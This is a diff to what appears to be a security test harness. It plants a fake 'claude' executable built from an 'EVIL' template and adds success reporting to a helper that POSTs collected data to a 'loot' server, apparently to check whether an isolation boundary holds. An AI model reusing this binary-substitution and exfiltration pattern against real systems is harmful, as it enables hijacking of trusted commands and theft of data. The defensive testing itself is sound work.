@@ -308,8 +308,9 @@ def send(name, data):
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
     try:
         opener.open(urllib.request.Request(f"{{LOOT}}/{{name}}", data=data or b"-", method="POST"), timeout=10)
+        return True
     except OSError:
-        pass
+        return False
 
 def look(path):
     try:
@@ -337,7 +338,9 @@ def arm(arena: Arena, does: str) -> None:
     """Write the stand-in for the CLI, which does what the attacker wants."""
     python = shutil.which("python3", path="/usr/bin:/bin")  # one that another user may run
     lines = "\n".join(f"    {line}" for line in does.strip("\n").splitlines()) or "    pass"
-    text = EVIL.format(python=python or sys.executable, loot=arena.loot.url, pwned=str(arena.pwned), root=str(arena.root), does=lines)
+    text = EVIL.format(
+        python=python or sys.executable, loot=arena.loot.url, pwned=str(arena.pwned), root=str(arena.root), does=lines
+    )
     compile(text, "evil", "exec")  # a slip of ours must not look like an attack that was held
     program = arena.root / "claude"
     program.write_text(text)
